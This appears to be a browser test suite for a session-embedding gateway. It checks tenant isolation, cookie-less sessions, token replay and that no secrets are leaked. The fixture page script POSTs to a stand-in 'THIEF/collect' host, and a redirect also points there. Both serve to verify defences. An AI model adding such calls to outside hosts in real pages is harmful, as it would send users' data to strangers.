// Pages that carry their session themselves, in a browser that lets no site keep anything: no cookie, not even a partitioned one, no storage.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';

import { artifact, BI, PORTAL, scratch, show, shown, THIEF, token, until, World } from './world.mjs';

let passed = 0, failed = 0;
async function check(name, work) {
  try {
    await work();
    passed += 1;
    console.log(`  ok   ${name}`);
  } catch (error) {
    failed += 1;
    console.log(`  FAIL ${name}\n       ${String(error.stack).split('\n').slice(0, 8).join('\n       ')}`);
  }
}

const CLASSIC = 'https://classic.vendor.example';
const grants = { resource: undefined, resources: ['dashboard:overview', 'dashboard:details', 'dashboard:moved'] };
const link = (tenant, page = 'overview', site = BI) => `${site}/dashboard/${page}?first=1&embed_token=${token(tenant, grants)}&last=2#here`;

const page = (name, tenant) => `<!-- a comment --><!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>${name}</title>
<meta http-equiv="Content-Security-Policy" content="script-src 'self'"><base href="/dashboard/">
<style>body{font:16px/1.5 system-ui,sans-serif;margin:0;padding:20px;color:#17202c}h1{font-size:20px;margin:0 0 8px}h2{font-size:15px;color:#596677;margin:0 0 12px}
table{border-collapse:collapse;width:100%}td{border-top:1px solid #d9dee5;padding:6px 0}nav a{margin-right:12px}</style></head>
<body><h1>Tenant <span id="page">${tenant}</span></h1><h2 id="name">${name}</h2><nav><a href="details">Details</a><a href="moved">Moved</a>
<a href="details" target="_blank">Window</a><a href="../export.csv" download>Export</a></nav>
<form action="details"><input type="hidden" name="chosen" value="é 1"><button>Choose</button></form>
<table id="rows"></table><p id="problem"></p><img id="picture" src="/api/picture"><script src="/assets/app.js"></script></body></html>`;
// The BI server's own script: it asks by fetch and by XMLHttpRequest, says goodbye, and talks to a stranger.
const SCRIPT = `addEventListener('load', load); async function load() {
  const asked = new XMLHttpRequest(); asked.open('POST', '/api/rows'); asked.setRequestHeader('Content-Type', 'application/json');
  const [answer, other] = await Promise.all([fetch(new Request('/api/rows?by=fetch')), new Promise((done) => { asked.onloadend = () => done(asked); asked.send('{}'); })]);
  const data = await answer.json();
  document.getElementById('problem').textContent = answer.ok && other.status === 200 ? '' : data.code ?? other.status;
  document.getElementById('rows').innerHTML = (data.rows ?? []).map((row) => '<tr data-tenant="' + row.tenant + '"><td>' + row.name).join('');
  await fetch('${THIEF}/collect', { method: 'POST', headers: { 'X-Own': '1' } }).catch(() => {});
  navigator.sendBeacon('/api/beacon', 'bye');
  document.body.dataset.loads = Number(document.body.dataset.loads ?? 0) + 1; }`;

function serve(seen) {
  return createServer((request, response) => {
    seen.push({ method: request.method, target: request.url, headers: request.headers });
    const url = new URL(request.url, 'http://inner');
    const tenant = Number(url.searchParams.get('tenant_id'));
    const name = url.pathname.split('/').pop();
    const rows = Array.from({ length: 4 }, (_, at) => ({ tenant, name: `Account ${at + 1} of tenant ${tenant}` }));
    if (name === 'moved') return response.writeHead(302, { location: `/dashboard/details?${url.searchParams}&by=redirect` }).end();
    if (name === 'away') return response.writeHead(302, { location: `${THIEF}/collect` }).end();
    if (name === 'app.js') return response.writeHead(200, { 'content-type': 'text/javascript' }).end(SCRIPT);
    if (name === 'rows') return response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ rows }));
    if (name === 'export.csv') return response.writeHead(200, { 'content-type': 'text/csv', 'content-disposition': 'attachment; filename="rows.csv"' }).end(`tenant\n${tenant}\n`);
    if (name === 'beacon') return response.writeHead(204).end();
    const policy = `default-src 'none'; script-src 'self'; style-src 'unsafe-inline'; img-src 'self'; connect-src 'self' ${THIEF}; form-action 'self'; base-uri 'self'`;
    response.writeHead(200, { 'content-type': 'text/html', 'content-security-policy': policy });
    response.end(page(name, tenant));
  });
}

const site = (name, ports, keys) => `
[site.${name}]
hosts = ["${name}.vendor.example"]
upstream = "http://127.0.0.1:${ports.upstream}"
kind = "generic"
issuers = ["app"]
frame_ancestors = ["${PORTAL}", "${THIEF}"]
single_use = true
bind = ["origin"]
${keys}
[site.${name}.params]
tenant_id = { mode = "locked", type = "integer" }
[[site.${name}.routes]]
path = "/assets/*"
access = "public"
[[site.${name}.routes]]
path = "/dashboard/{id}"
resource = "dashboard:{id}"
[[site.${name}.routes]]
path = "/api/*"
methods = ["GET", "POST"]
[[site.${name}.routes]]
path = "/api/beacon"
methods = ["POST"]
danger_unread_body = true
[[site.${name}.routes]]
path = "/export.csv"
`;
const config = (ports, trail) => `
[listen]
address = "127.0.0.1:${ports.gateway}"
tls = { certificate = "${scratch}/edge.pem", key = "${scratch}/edge.key" }
[log]
level = "debug"
[audit]
output = "${trail}"
[session]
secret = { env = "SESSION" }
mode = "script"
[issuer.app]
algorithm = "HS256"
secret = { env = "APP" }
audience = "embedgate"
${site('bi', ports, '')}${site('classic', ports, 'session_mode = "cookie"')}`;

const world = await World.begin({ name: '-script', config, serve });
const { context, end } = await world.browser({ nothing: true });
const host = await context.newPage();
const tenants = [{ page: 999, rows: [999] }, { page: 777, rows: [777] }];
const name = (frame) => frame.locator('#name').textContent();
const arrives = async (frame, wanted) => {
  await until(`the frame shows ${wanted}`, async () => (await name(frame).catch(() => '')) === wanted);
  await frame.locator('#rows tr, #problem:not(:empty)').first().waitFor();
};
// Every value of our field that a page sent, on the way to the gateway.
const sent = new Set();
context.on('request', async (request) => sent.add((await request.allHeaders().catch(() => ({})))['x-embedgate-session']));
let frames;

await check('this browser lets a site keep nothing at all', async () => {
  const probe = await context.newPage();
  for (const round of [1, 2]) {
    await probe.goto(`${PORTAL}/?frame=${encodeURIComponent(`${THIEF}/probe?${round}`)}`);
    await probe.frameLocator('iframe').locator('#sent').waitFor({ state: 'attached' });
  }
  assert.equal(await probe.frameLocator('iframe').locator('#sent').textContent(), '', 'not even the partitioned cookie');
  const [, frame] = probe.frames();
  assert.equal(await frame.evaluate(() => { try { return String(sessionStorage); } catch (error) { return error.name; } }), 'SecurityError');
  assert.deepEqual(await context.cookies(), []);
  await probe.close();
});

await check('a site whose sessions are cookies shows nothing in it', async () => {
  const probe = await context.newPage();
  const [frame] = await show(probe, PORTAL, [link(999, 'overview', CLASSIC)]);
  assert.equal(await frame.locator('main').getAttribute('data-code'), 'token_missing');
  await probe.screenshot({ path: artifact('script-cookies-blocked.png') });
  await probe.close();
});

await check('two frames of different tenants, which carry their sessions, show their own rows', async () => {
  frames = await show(host, PORTAL, [link(999), link(777)]);
  assert.deepEqual(await Promise.all(frames.map(shown)), tenants);
  assert.equal(await frames[0].locator('#problem').textContent(), '');
  assert.equal(await frames[0].evaluate(() => document.characterSet), 'UTF-8');
  assert.equal(await frames[0].evaluate(() => document.compatMode), 'CSS1Compat');
  assert.deepEqual(await context.cookies(), []);
  await host.screenshot({ path: artifact('script-two-tenants.png') });
});

await check('the address holds neither token nor session, the markup nothing of the script', async () => {
  for (const frame of frames) {
    assert.equal(frame.url(), `${BI}/dashboard/overview?first=1&last=2#here`);
    const markup = await frame.evaluate(() => document.documentElement.outerHTML);
    assert.ok(!/embedgate|told|nonce/.test(markup.replaceAll(THIEF, '')), markup.slice(0, 600));
    assert.deepEqual(await frame.evaluate(() => [window.name, JSON.stringify(history.state), document.cookie]), ['', 'null', '']);
  }
});

await check('what the page asks of others goes without', async () => {
  const asked = world.told.filter(({ target }) => target === '/collect');
  assert.ok(asked.some(({ method }) => method === 'POST') && asked.some(({ method }) => method === 'OPTIONS'));
  assert.ok(asked.every(({ headers }) => !JSON.stringify(headers).includes('embedgate')), JSON.stringify(asked));
  const followed = await frames[0].evaluate(() => fetch('/api/away').then((answer) => answer.status, (error) => error.name));
  assert.equal(followed, 502, 'the gateway follows nobody out');
  const blocked = await frames[0].evaluate((url) => fetch(`${url}/collect`, { headers: { 'X-Embedgate-Session': 'x' } }).then(() => 'asked'), THIEF);
  assert.equal(blocked, 'asked', 'the page may send what it likes, but has not the session');
});

await check('requests go out as fetch, XMLHttpRequest and beacon', async () => {
  const calls = world.seen.filter(({ target }) => target.startsWith('/api/'));
  for (const [method, target] of [['GET', '/api/rows?by=fetch&tenant_id=999'], ['POST', '/api/rows?tenant_id=777'], ['POST', '/api/beacon?tenant_id=777']]) {
    await until(`${method} ${target}`, () => world.seen.some((one) => one.method === method && one.target === target));
  }
  assert.ok(!calls.some(({ target }) => target.startsWith('/api/picture')), 'browsers ask for pictures without');
});

await check('links, forms, `location`, redirects and reload open pages of the same session', async () => {
  const [frame, other] = frames;
  await frame.locator('a', { hasText: 'Details' }).first().click();
  await arrives(frame, 'details');
  assert.equal(frame.url(), `${BI}/dashboard/details`);
  assert.deepEqual(await shown(frame), tenants[0]);
  await frame.locator('button').click();
  await until('the form arrives', () => frame.url().includes('chosen'));
  await arrives(frame, 'details');
  assert.equal(frame.url(), `${BI}/dashboard/details?chosen=%C3%A9+1`);
  await frame.evaluate(() => { location.hash = 'below'; });
  assert.ok(frame.url().endsWith('+1#below') && (await shown(frame)).page === 999, frame.url());
  await frame.locator('a', { hasText: 'Moved' }).click();
  await until('the redirect arrives', () => frame.url().includes('by=redirect'));
  await arrives(frame, 'details');
  assert.ok(!/embed_|tenant_id=(?!999)/.test(frame.url()), frame.url());
  await frame.evaluate(() => { location.href = 'overview'; });
  await arrives(frame, 'overview');
  for (const round of [1, 2]) {
    await frame.evaluate((mark) => { document.title = mark; location.reload(); }, `before ${round}`);
    await until('reloaded', async () => (await frame.title().catch(() => '')) === 'overview');
    await arrives(frame, 'overview');
  }
  assert.deepEqual(await Promise.all(frames.map(shown)), tenants);
  await other.locator('a', { hasText: 'Details' }).first().click();
  await arrives(other, 'details');
  await host.screenshot({ path: artifact('script-after-links.png') });
});

await check('a page in a window of its own is refused where the site says so', async () => {
  const [opened] = await Promise.all([context.waitForEvent('page'), frames[0].locator('a', { hasText: 'Window' }).click()]);
  await opened.locator('main').waitFor();
  assert.equal(await opened.locator('main').getAttribute('data-code'), 'top_level_denied');
  assert.ok(opened.url().startsWith(`${BI}/dashboard/details`));
  await opened.close();
});

await check('links work where the browser knows no Navigation API', async () => {
  const older = await context.newPage();
  await older.addInitScript(() => Object.defineProperty(window, 'navigation', { value: undefined }));
  const [frame] = await show(older, PORTAL, [link(555)]);
  await frame.locator('a', { hasText: 'Details' }).first().click();
  await arrives(frame, 'details');
  assert.deepEqual(await shown(frame), { page: 555, rows: [555] });
  await frame.evaluate(() => { location.href = 'overview'; });
  await frame.locator('main').waitFor();
  assert.equal(await frame.locator('main').getAttribute('data-code'), 'token_missing');
  await older.close();
});

await check('a fresh session takes the place of the old one, by fetch and by XMLHttpRequest', async () => {
  const probe = await context.newPage();
  const [frame] = await show(probe, PORTAL, [link(555)]);
  const asked = [];
  await probe.route('**/api/renew*', async (route) => {
    asked.push((await route.request().allHeaders())['x-embedgate-session']);
    await route.fulfill({ headers: { 'x-embedgate-session': `fresh-${asked.length}` }, body: '{}' });
  });
  await frame.evaluate(() => fetch('/api/renew?1'));
  await frame.evaluate(() => new Promise((done) => { const asked = new XMLHttpRequest(); asked.open('GET', '/api/renew?2'); asked.onloadend = done; asked.send(); }));
  await frame.evaluate(() => fetch('/api/renew?3'));
  assert.deepEqual(asked.slice(1), ['fresh-1', 'fresh-2']);
  assert.equal(await frame.evaluate(() => fetch('/api/rows').then((answer) => answer.status)), 401);
  assert.equal(await frame.evaluate((url) => fetch(url).then((answer) => answer.status, () => 'failed'), `${BI}:444/api/rows`), 'failed');
  await probe.close();
});

await check('a file is taken away', async () => {
  const [download] = await Promise.all([host.waitForEvent('download'), frames[0].locator('a', { hasText: 'Export' }).click()]);
  assert.equal(readFileSync(await download.path(), 'utf8'), 'tenant\n999\n');
  assert.deepEqual(await shown(frames[0]), tenants[0], 'the page stays');
});

await check('going back to a page that is gone tells the host page', async () => {
  const before = await host.evaluate(() => told.length);
  await frames[1].evaluate(() => history.back());
  await until('the host page is told', () => host.evaluate((from) => told.slice(from).some(({ code }) => code === 'token_missing'), before));
});

await check('a copied link is a page that says so, in any browser', async () => {
  const { context: theirs, end: done } = await world.browser();
  const thief = await theirs.newPage();
  const used = link(999);
  await show(host, PORTAL, [used]);
  const [frame] = await show(thief, THIEF, [used]);
  assert.equal(await frame.locator('main').getAttribute('data-code'), 'token_replayed');
  await done();
});

await check('it works as well where cookies are kept', async () => {
  const { context: usual, end: done } = await world.browser();
  const tab = await usual.newPage();
  const [frame] = await show(tab, PORTAL, [link(555)]);
  assert.deepEqual(await shown(frame), { page: 555, rows: [555] });
  assert.deepEqual(await usual.cookies(BI), []);
  await done();
});

await check('the BI server, the log and the audit trail learn neither tokens nor sessions', async () => {
  sent.delete(undefined);
  assert.ok(sent.size >= 4, `${sent.size}`);
  const places = [JSON.stringify(world.seen), readFileSync(world.log, 'utf8'), readFileSync(world.trail, 'utf8')];
  for (const text of places) {
    assert.ok(!/embed_session|embed_token|x-embedgate/i.test(text));
    for (const session of sent) assert.ok(session.length < 60 || !text.includes(session.slice(0, 60)));
  }
});

await end();
await world.end();
console.log(`sharing (script): ${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
